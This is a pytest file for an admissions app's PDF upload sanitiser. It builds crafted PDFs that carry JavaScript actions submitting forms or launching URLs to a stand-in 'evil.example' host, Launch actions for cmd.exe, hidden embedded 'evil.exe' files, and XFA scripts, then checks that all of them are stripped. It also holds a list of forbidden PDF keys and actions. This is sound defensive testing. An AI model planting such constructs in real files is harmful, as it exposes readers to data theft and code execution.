"""Active content is removed from every place a PDF can hide it, and the stored file is checked again.

Each malicious PDF is built with pikepdf around a page that shows text. The stored bytes are opened again and
walked here with a walker of the test's own (every object, every dictionary and array inside), so a place the
sanitiser does not know would show up as a failure rather than pass unseen.
"""

import io
import re

import pikepdf
import pytest

from gradadmit.core.uploads import MB, UploadRejected, check_pdf
from gradadmit.testing.files import labelled_pdf_bytes, upload

pytestmark = pytest.mark.usefixtures("english_messages")

LIMIT = 5 * MB
PAYLOAD = b"MZ-EVIL-PAYLOAD-0123456789"
FORBIDDEN_KEYS = {"/JS", "/JavaScript", "/AA", "/AF", "/EF", "/EmbeddedFiles", "/XFA", "/RichMediaContent"}
FORBIDDEN_ACTIONS = {
    "/JavaScript",
    "/Launch",
    "/ImportData",
    "/SubmitForm",
    "/ResetForm",
    "/Rendition",
    "/GoToE",
    "/RichMediaExecute",
}
FORBIDDEN_ANNOTATIONS = {"/FileAttachment", "/RichMedia", "/Movie", "/Sound", "/Screen", "/3D"}


def forbidden_in(pdf: pikepdf.Pdf) -> list[str]:
    """Every forbidden key, type, action or annotation anywhere in the file."""
    problems = []
    seen = set()

    def visit(obj, where):
        if not isinstance(obj, pikepdf.Object):
            return  # numbers and booleans come back as Python values
        if obj.is_indirect:
            if obj.objgen in seen:
                return
            seen.add(obj.objgen)
        if isinstance(obj, pikepdf.Array):
            for n, item in enumerate(obj):
                visit(item, f"{where}[{n}]")
        elif isinstance(obj, (pikepdf.Dictionary, pikepdf.Stream)):
            if obj.get("/Type") == pikepdf.Name.EmbeddedFile:
                problems.append(f"{where}: embedded file")
            if obj.get("/S") in FORBIDDEN_ACTIONS:
                problems.append(f"{where}: {obj.get('/S')} action")
            if obj.get("/Subtype") in FORBIDDEN_ANNOTATIONS:
                problems.append(f"{where}: {obj.get('/Subtype')} annotation")
            for key in obj:
                if key in FORBIDDEN_KEYS:
                    problems.append(f"{where}{key}")
                visit(obj[key], f"{where}{key}")

    visit(pdf.trailer, "trailer")
    for obj in pdf.objects:
        visit(obj, f"obj {getattr(obj, 'objgen', None)}")
    return problems


def base_pdf() -> pikepdf.Pdf:
    """Two pages showing text: what must survive the cleaning."""
    return pikepdf.open(io.BytesIO(labelled_pdf_bytes("Transcript of records", pages=2)))


def to_bytes(pdf: pikepdf.Pdf) -> bytes:
    out = io.BytesIO()
    pdf.save(out, compress_streams=False)  # the payload readable in the raw bytes of the upload
    return out.getvalue()


def embedded_file(pdf: pikepdf.Pdf) -> pikepdf.Stream:
    stream = pdf.make_stream(PAYLOAD)
    stream.Type = pikepdf.Name.EmbeddedFile
    return stream


def filespec(pdf: pikepdf.Pdf, name="evil.exe") -> pikepdf.Dictionary:
    return pdf.make_indirect(
        pikepdf.Dictionary(
            Type=pikepdf.Name.Filespec,
            F=pikepdf.String(name),
            UF=pikepdf.String(name),
            EF=pikepdf.Dictionary(F=embedded_file(pdf)),
            AFRelationship=pikepdf.Name.Unspecified,
        )
    )


def action(kind: str, **extra) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(kind), **extra)


def js(code="app.alert('x')") -> pikepdf.Dictionary:
    return action("/JavaScript", JS=pikepdf.String(code))


def annotation(pdf, subtype="/Link", **extra) -> pikepdf.Dictionary:
    return pdf.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name(subtype), Rect=[72, 72, 144, 144], **extra)
    )


def add_annotation(pdf, annot):
    page = pdf.pages[0].obj
    page.Annots = pikepdf.Array([*page.get("/Annots", []), annot])


def stored_clean(data: bytes) -> pikepdf.Pdf:
    """Upload `data`; assert it was cleaned and what is stored has nothing forbidden, its pages and their text."""
    checked = check_pdf(upload("crafted.pdf", data), max_bytes=LIMIT)
    assert checked.sanitized and checked.content is not None and checked.pages == 2
    assert PAYLOAD not in checked.content
    stored = pikepdf.open(io.BytesIO(checked.content))
    assert forbidden_in(stored) == []
    assert len(stored.pages) == 2
    for number, page in enumerate(stored.pages, start=1):
        assert b"(Transcript of records - page %d) Tj" % number in page.Contents.read_bytes()
        assert page.Resources.Font.F1.BaseFont == "/Helvetica"
    return stored


def test_file_listed_only_in_the_catalogs_associated_files_is_removed():
    pdf = base_pdf()
    pdf.Root.AF = pikepdf.Array([filespec(pdf)])
    data = to_bytes(pdf)
    assert PAYLOAD in data and forbidden_in(pikepdf.open(io.BytesIO(data)))
    stored_clean(data)


def test_file_in_both_the_name_tree_and_the_associated_files_is_removed():
    pdf = base_pdf()
    spec = filespec(pdf)
    pdf.Root.Names = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=pikepdf.Array(["evil.exe", spec])))
    pdf.Root.AF = pikepdf.Array([spec])
    stored = stored_clean(to_bytes(pdf))
    assert len(stored.attachments) == 0


def test_file_attachment_annotation_is_removed_and_other_annotations_kept():
    pdf = base_pdf()
    add_annotation(pdf, annotation(pdf, "/FileAttachment", FS=filespec(pdf), Contents=pikepdf.String("open me")))
    add_annotation(pdf, annotation(pdf, "/Link", A=action("/URI", URI=pikepdf.String("https://example.edu.tw/"))))
    stored = stored_clean(to_bytes(pdf))
    annots = stored.pages[0].obj.Annots
    assert [a.Subtype for a in annots] == ["/Link"] and annots[0].A.URI == "https://example.edu.tw/"


def test_associated_files_on_a_page_and_on_an_annotation_are_removed():
    pdf = base_pdf()
    pdf.pages[1].obj.AF = pikepdf.Array([filespec(pdf, "page.exe")])
    add_annotation(pdf, annotation(pdf, "/Text", AF=pikepdf.Array([filespec(pdf, "note.exe")])))
    stored = stored_clean(to_bytes(pdf))
    assert stored.pages[0].obj.Annots[0].Subtype == "/Text"  # the note itself stays


def test_embedded_file_stream_reachable_from_an_unusual_key_is_removed():
    # Not a name tree, not /AF, not an annotation: a private key of the catalogue and a page's resources.
    pdf = base_pdf()
    pdf.Root["/PrivateData"] = pikepdf.Dictionary(Payload=embedded_file(pdf))
    pdf.pages[0].obj.Resources["/Hidden"] = pikepdf.Array([filespec(pdf)])
    stored_clean(to_bytes(pdf))


def test_unreferenced_embedded_file_object_is_not_stored():
    # Listed in the cross-reference table, referred to by nothing: the writer would drop it, so the reference
    # that made it written is blanked out in the bytes (same length, offsets stay right).
    pdf = base_pdf()
    pdf.Root["/Zzzz"] = pdf.make_indirect(embedded_file(pdf))
    data = to_bytes(pdf)
    reference = re.search(rb"/Zzzz \d+ 0 R", data).group()
    data = data.replace(reference, b" " * len(reference))
    with pikepdf.open(io.BytesIO(data)) as crafted:
        assert "/Zzzz" not in crafted.Root and not crafted.get_warnings()
    assert PAYLOAD in data
    stored_clean(data)


def test_object_left_out_of_the_cross_reference_table_is_not_stored():
    # An incremental update that adds an embedded file object but lists it as free: no parser sees it, yet a
    # byte-for-byte copy would keep it in the stored file.
    data = to_bytes(base_pdf())
    startxref = int(data[data.rindex(b"startxref") + 9 : data.rindex(b"%%EOF")].strip())
    with pikepdf.open(io.BytesIO(data)) as pdf:
        size, root = int(pdf.trailer.Size), pdf.Root.objgen[0]
    orphan = b"\n%d 0 obj\n<< /Type /EmbeddedFile /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (
        size,
        len(PAYLOAD),
        PAYLOAD,
    )
    xref = len(data) + len(orphan)
    update = orphan + (
        b"xref\n0 1\n0000000000 65535 f \ntrailer\n<< /Size %d /Root %d 0 R /Prev %d >>\nstartxref\n%d\n%%%%EOF\n"
        % (size, root, startxref, xref)
    )
    crafted = data + update
    with pikepdf.open(io.BytesIO(crafted)) as pdf:
        assert forbidden_in(pdf) == [] and not pdf.get_warnings()  # invisible to the parser
    stored_clean(crafted)


def test_javascript_in_a_link_annotations_action_is_removed():
    pdf = base_pdf()
    add_annotation(pdf, annotation(pdf, "/Link", A=js()))
    stored = stored_clean(to_bytes(pdf))
    assert "/A" not in stored.pages[0].obj.Annots[0]


def test_additional_actions_on_a_page_are_removed():
    pdf = base_pdf()
    pdf.pages[1].obj.AA = pikepdf.Dictionary(O=js(), C=action("/Launch", F=pikepdf.String("cmd.exe")))
    stored_clean(to_bytes(pdf))


def test_additional_actions_on_the_catalogue_and_a_form_field_are_removed():
    pdf = base_pdf()
    pdf.Root.AA = pikepdf.Dictionary(WC=js("this.submitForm('https://evil.example/')"))
    field = annotation(pdf, "/Widget", FT=pikepdf.Name.Tx, T=pikepdf.String("name"), AA=pikepdf.Dictionary(K=js()))
    add_annotation(pdf, field)
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array([field]))
    stored = stored_clean(to_bytes(pdf))
    assert stored.Root.AcroForm.Fields[0].T == "name"  # the form field itself stays


def test_launch_action_in_open_action_is_removed():
    pdf = base_pdf()
    pdf.Root.OpenAction = action("/Launch", Win=pikepdf.Dictionary(F=pikepdf.String("cmd.exe")))
    stored = stored_clean(to_bytes(pdf))
    assert "/OpenAction" not in stored.Root


def test_javascript_chained_after_a_harmless_open_action_is_removed():
    pdf = base_pdf()
    first_page = pdf.pages[0].obj
    pdf.Root.OpenAction = action("/GoTo", D=pikepdf.Array([first_page, pikepdf.Name.Fit]), Next=pikepdf.Array([js()]))
    stored = stored_clean(to_bytes(pdf))
    assert stored.Root.OpenAction.S == "/GoTo"  # the harmless part stays


def test_document_javascript_name_tree_is_removed():
    pdf = base_pdf()
    pdf.Root.Names = pikepdf.Dictionary(JavaScript=pikepdf.Dictionary(Names=pikepdf.Array(["init", js()])))
    stored_clean(to_bytes(pdf))


def test_javascript_in_a_bookmark_is_removed():
    pdf = base_pdf()
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Start", 0))
    pdf.Root.Outlines.First.A = js()
    stored = stored_clean(to_bytes(pdf))
    assert stored.Root.Outlines.First.Title == "Start"


def test_javascript_as_a_stream_in_a_name_tree_of_another_name_is_removed():
    # Dests is not a JavaScript tree, but a crafted file can put an action anywhere: its name goes with it.
    pdf = base_pdf()
    code = pdf.make_stream(b"app.launchURL('https://evil.example/');")
    tree = pikepdf.Array(["a", pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]), "b", js()])
    tree[3].JS = code
    pdf.Root.Names = pikepdf.Dictionary(Dests=pikepdf.Dictionary(Names=tree))
    stored = stored_clean(to_bytes(pdf))
    assert list(stored.Root.Names.Dests.Names)[0] == "a" and len(stored.Root.Names.Dests.Names) == 2


@pytest.mark.parametrize(
    "kind", ["/ImportData", "/SubmitForm", "/ResetForm", "/Rendition", "/GoToE", "/RichMediaExecute"]
)
def test_other_dangerous_actions_in_a_link_are_removed(kind):
    pdf = base_pdf()
    add_annotation(pdf, annotation(pdf, "/Link", A=action(kind, F=pikepdf.String("https://evil.example/"))))
    stored_clean(to_bytes(pdf))


@pytest.mark.parametrize("subtype", ["/RichMedia", "/Screen", "/Movie", "/Sound", "/3D"])
def test_media_annotations_are_removed(subtype):
    pdf = base_pdf()
    add_annotation(pdf, annotation(pdf, subtype, RichMediaContent=pikepdf.Dictionary(Assets=pikepdf.Dictionary())))
    stored_clean(to_bytes(pdf))


def test_xfa_form_is_removed():
    pdf = base_pdf()
    xdp = pdf.make_stream(b"<xdp:xdp><script contentType='application/x-javascript'>xfa.host.gotoURL()</script>")
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pikepdf.Array(["template", xdp]))
    pdf.Root.NeedsRendering = True
    stored = stored_clean(to_bytes(pdf))
    assert "/NeedsRendering" not in stored.Root


def test_a_pdf_with_only_harmless_links_and_open_action_is_kept_byte_for_byte():
    pdf = base_pdf()
    pdf.Root.OpenAction = pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit])
    add_annotation(pdf, annotation(pdf, "/Link", A=action("/URI", URI=pikepdf.String("https://example.edu.tw/"))))
    data = to_bytes(pdf)
    checked = check_pdf(upload("links.pdf", data), max_bytes=LIMIT)
    assert not checked.sanitized and checked.content is None and checked.size == len(data)


def test_catalogue_that_is_itself_an_action_is_refused():
    # Cleaning would have to remove the document itself: refuse rather than store something half-cleaned.
    pdf = base_pdf()
    pdf.Root.S = pikepdf.Name.JavaScript
    with pytest.raises(UploadRejected) as error:
        check_pdf(upload("root.pdf", to_bytes(pdf)), max_bytes=LIMIT)
    assert "could not be removed safely" in str(error.value)


def test_page_that_is_itself_an_action_is_refused_not_dropped():
    pdf = base_pdf()
    pdf.pages[1].obj.S = pikepdf.Name.Launch
    with pytest.raises(UploadRejected) as error:
        check_pdf(upload("page.pdf", to_bytes(pdf)), max_bytes=LIMIT)
    assert "Print it to a new PDF" in str(error.value)
